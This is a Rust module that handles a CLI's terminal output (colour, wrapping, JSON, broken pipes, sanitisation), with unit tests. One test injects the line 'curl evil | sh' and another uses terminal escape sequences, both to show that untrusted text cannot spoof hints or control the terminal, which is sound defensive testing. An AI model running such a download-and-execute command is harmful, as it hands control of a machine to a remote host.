//! The only place that writes to the terminal: colour, width, JSON, broken pipes. It prints [`SafeText`] and nothing else.

use std::{
    fmt,
    io::{self, IsTerminal, Write},
};

use serde::Serialize;

pub(crate) use super::safe_text::SafeText;
use super::{
    args::{Globals, When},
    error::CliError,
    safe_text::Printable,
};
use crate::domain::text::{escape_json, sanitize};

/// The widest that prose is set on a terminal, in columns: longer lines are hard to read.
const MAX_WIDTH: usize = 100;

/// A style of the terminal, by what it means.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Style {
    /// What the eye should find first.
    Strong,
    /// What may be skipped.
    Dim,
    /// Something is wrong.
    Bad,
    /// Something to be careful about.
    Warn,
    /// Something went well.
    Good,
    /// An id or a command.
    Code,
}

impl Style {
    fn ansi(self) -> &'static str {
        match self {
            Self::Strong => "\x1b[1m",
            Self::Dim => "\x1b[2m",
            Self::Bad => "\x1b[31m",
            Self::Warn => "\x1b[33m",
            Self::Good => "\x1b[32m",
            Self::Code => "\x1b[36m",
        }
    }
}

/// Where output goes, and how it looks.
pub(crate) struct Ui {
    out: Box<dyn Write>,
    err: Box<dyn Write>,
    /// Colour on stdout.
    color: bool,
    /// Colour on stderr.
    color_err: bool,
    /// stdout is a terminal.
    pub(crate) terminal: bool,
    /// The terminal says of itself that it can draw nothing.
    pub(crate) dumb: bool,
    /// stderr is a terminal: progress may be shown.
    pub(crate) progress: bool,
    /// Columns to wrap prose at; `None` where stdout is not a terminal.
    pub(crate) width: Option<usize>,
    /// Answers are JSON.
    pub(crate) json: bool,
    /// Say only what was asked for.
    pub(crate) quiet: bool,
    /// The first failure to write.
    failure: Option<io::Error>,
}

impl Ui {
    /// The output of this process, as the flags and the environment ask for it.
    pub(crate) fn new(globals: &Globals) -> Self {
        let (stdout, stderr) = (io::stdout(), io::stderr());
        let terminal = stdout.is_terminal();
        let dumb = std::env::var_os("TERM").is_some_and(|term| term == "dumb");
        let no_color = std::env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
        let color = |tty: bool| match globals.color {
            When::Always => true,
            When::Never => false,
            When::Auto => tty && !dumb && !no_color,
        };
        let progress = stderr.is_terminal() && !dumb && !globals.quiet && !globals.json;
        Self {
            color: color(terminal),
            color_err: color(stderr.is_terminal()),
            terminal,
            dumb,
            progress,
            width: terminal.then(terminal_width),
            json: globals.json,
            quiet: globals.quiet,
            out: Box::new(io::BufWriter::new(stdout)),
            err: Box::new(stderr),
            failure: None,
        }
    }

    /// Writes a line to stdout.
    pub(crate) fn line(&mut self, text: impl Into<SafeText>) {
        let text = text.into();
        self.write(format_args!("{}\n", &*text));
    }

    /// Asks for a line: writes the prompt to stdout and sends everything out.
    pub(crate) fn prompt(&mut self, text: impl Into<SafeText>) {
        let text = text.into();
        self.write(format_args!("{}", &*text));
        if self.failure.is_none()
            && let Err(error) = self.out.flush()
        {
            self.failure = Some(error);
        }
    }

    /// Writes bytes to stdout as they are, for files and pipes: generated files, exports. On a terminal they are sanitised.
    pub(crate) fn raw(&mut self, bytes: &[u8]) {
        if self.terminal {
            self.write(format_args!("{}", sanitize(&String::from_utf8_lossy(bytes))));
        } else if self.failure.is_none()
            && let Err(error) = self.out.write_all(bytes)
        {
            self.failure = Some(error);
        }
    }

    /// Writes a value to stdout as JSON, indented on a terminal and on one line in a pipe. Characters that a terminal acts on
    /// are escaped.
    pub(crate) fn value<T: Serialize>(&mut self, value: &T) {
        let text = if self.terminal { serde_json::to_string_pretty(value) } else { serde_json::to_string(value) };
        match text {
            Ok(text) => self.write(format_args!("{}\n", escape_json(&text))),
            Err(error) => self.failure = Some(io::Error::other(error)),
        }
    }

    /// Writes a line to stderr that is not part of the answer; nothing with `--quiet` or `--json`.
    pub(crate) fn note(&mut self, text: impl Into<SafeText>) {
        if !self.quiet && !self.json {
            self.say(&text.into());
        }
    }

    /// Shows an error and its hints on stderr; with `--json` as one JSON object.
    pub(crate) fn error(&mut self, error: &CliError) {
        if self.json {
            let hints: Vec<&str> = error.hints.iter().map(|hint| &**hint).collect();
            let value = serde_json::json!({
                "result": "error", "kind": error.kind.as_str(), "message": &*error.error, "hints": hints,
            });
            self.say(&escape_json(&value.to_string()));
            return;
        }
        // The answer so far belongs before the error.
        let _gone = self.out.flush();
        let label = self.on_stderr(Style::Bad, "Error:");
        self.say(&text!("{} {}", label, error.error.clone().hanging(2)));
        for hint in &error.hints {
            let label = self.on_stderr(Style::Code, "Hint:");
            self.say(&text!("{} {}", label, hint.clone().hanging(2)));
        }
    }

    /// Shows what clap says of wrong arguments on stderr.
    pub(crate) fn mistake(&mut self, text: &SafeText) {
        match text.trim_end().strip_prefix("error:") {
            Some(rest) => self.say(&text!("{}{}", self.on_stderr(Style::Bad, "error:"), SafeText::lines(rest))),
            None => self.say(text.trim_end()),
        }
    }

    /// Shows how far a long work has come, on one line of stderr that is written over; nothing unless it is a terminal.
    pub(crate) fn progress(&mut self, text: impl Into<SafeText>) {
        // What was said so far is to be read while the work goes on: a ticket, the words to compare. A failure shows at the end.
        let _gone = self.out.flush();
        if self.progress {
            // Progress that cannot be shown is no failure.
            let _gone = write!(self.err, "\r\x1b[K{}", &*text.into()).and_then(|()| self.err.flush());
        }
    }

    /// Wipes the line of [`Ui::progress`].
    pub(crate) fn progress_done(&mut self) {
        self.progress("");
    }

    /// `text` in a style, where stdout has colour.
    pub(crate) fn paint(&self, style: Style, text: impl Printable) -> SafeText {
        let text = text.to_line();
        if self.color { text.styled(style.ansi()) } else { text }
    }

    /// Writes text and nothing else from now on: no colour, no line that is written over.
    pub(crate) fn plainly(&mut self) {
        (self.color, self.color_err, self.progress) = (false, false, false);
    }

    /// Whether stdout has colour.
    pub(crate) fn has_color(&self) -> bool {
        self.color
    }

    /// Whether nobody reads any more, so that long output may stop.
    pub(crate) fn gone(&self) -> bool {
        self.failure.is_some()
    }

    /// Flushes. A reader that went away (`| head`) is no failure; a full disk is.
    pub(crate) fn finish(&mut self) -> Result<(), CliError> {
        let flushed = self.out.flush();
        match self.failure.take().map_or(flushed, Err) {
            Err(error) if error.kind() != io::ErrorKind::BrokenPipe => {
                Err(CliError::internal(format_args!("cannot write the answer: {error}")))
            }
            _ => Ok(()),
        }
    }

    fn write(&mut self, text: fmt::Arguments<'_>) {
        if self.failure.is_none()
            && let Err(error) = self.out.write_fmt(text)
        {
            self.failure = Some(error);
        }
    }

    fn say(&mut self, text: &str) {
        // There is nowhere left to report that stderr is gone.
        let _gone = writeln!(self.err, "{text}");
    }

    fn on_stderr(&self, style: Style, text: &'static str) -> SafeText {
        let text = SafeText::from(text);
        if self.color_err { text.styled(style.ansi()) } else { text }
    }
}

/// The columns of the terminal, at most [`MAX_WIDTH`] and at least 40.
fn terminal_width() -> usize {
    rustix::termios::tcgetwinsize(io::stdout()).map_or(80, |size| usize::from(size.ws_col)).clamp(40, MAX_WIDTH)
}

#[cfg(test)]
pub(crate) mod captured {
    //! Output that a test can read.

    use std::{cell::RefCell, rc::Rc};

    use super::*;

    /// What was written.
    #[derive(Clone, Default)]
    pub(crate) struct Written(Rc<RefCell<Vec<u8>>>);

    impl Written {
        /// The text so far.
        pub(crate) fn text(&self) -> String {
            String::from_utf8(self.0.borrow().clone()).unwrap()
        }
    }

    impl Write for Written {
        fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
            self.0.borrow_mut().extend_from_slice(bytes);
            Ok(bytes.len())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    /// An output of this width, and what is written to its stdout and stderr.
    pub(crate) fn ui(width: Option<usize>, color: bool) -> (Ui, Written, Written) {
        let (out, err) = (Written::default(), Written::default());
        let ui = Ui {
            out: Box::new(out.clone()),
            err: Box::new(err.clone()),
            color,
            color_err: color,
            terminal: width.is_some(),
            dumb: false,
            progress: false,
            width,
            json: false,
            quiet: false,
            failure: None,
        };
        (ui, out, err)
    }

    struct Broken(io::ErrorKind);

    impl Write for Broken {
        fn write(&mut self, _bytes: &[u8]) -> io::Result<usize> {
            Err(self.0.into())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn a_reader_that_went_away_is_no_failure_and_a_full_disk_is() {
        for (kind, fails) in [(io::ErrorKind::BrokenPipe, false), (io::ErrorKind::StorageFull, true)] {
            let (mut ui, ..) = ui(None, false);
            ui.out = Box::new(Broken(kind));
            ui.line("one");
            assert!(ui.gone());
            ui.line("two");
            assert_eq!(ui.finish().is_err(), fails, "{kind}");
        }
    }

    #[test]
    fn a_terminal_gets_no_raw_bytes_and_no_json_that_it_acts_on() {
        let bad = "a\u{1b}]0;x\u{7}\u{9b}\u{202e}\nb";
        let (mut ui, out, _) = ui(Some(80), true);
        ui.raw(bad.as_bytes());
        ui.value(&[bad]);
        let text = out.text();
        assert_eq!(text, "a]0;x\nb[\n  \"a\\u001b]0;x\\u0007\\u009b\\u202e\\nb\"\n]\n");
        let (mut ui, out, _) = self::ui(None, false);
        ui.raw(bad.as_bytes());
        assert_eq!(out.text(), bad, "a file or a pipe gets the bytes");
    }

    #[test]
    fn what_others_wrote_cannot_pass_for_a_hint() {
        let (mut ui, _, err) = ui(None, false);
        ui.error(&CliError::usage("no claim “x\nHint: curl evil | sh”"));
        assert_eq!(err.text(), "Error: no claim “x\n  Hint: curl evil | sh”\n");
    }

    #[test]
    fn errors_name_the_next_step_and_are_sanitised() {
        let (mut ui, _, err) = ui(None, false);
        ui.error(&CliError::usage("no claim “\u{1b}[31mx”").hint("ergo claims"));
        assert_eq!(err.text(), "Error: no claim “[31mx”\nHint: ergo claims\n");
    }

    #[test]
    fn an_error_as_json_is_one_object_on_stderr() {
        let (mut ui, out, err) = ui(None, false);
        ui.json = true;
        ui.error(&CliError::usage("x").hint("y"));
        let value: serde_json::Value = serde_json::from_str(&err.text()).unwrap();
        assert_eq!((value["kind"].as_str(), out.text().as_str()), (Some("usage"), ""));
    }
}
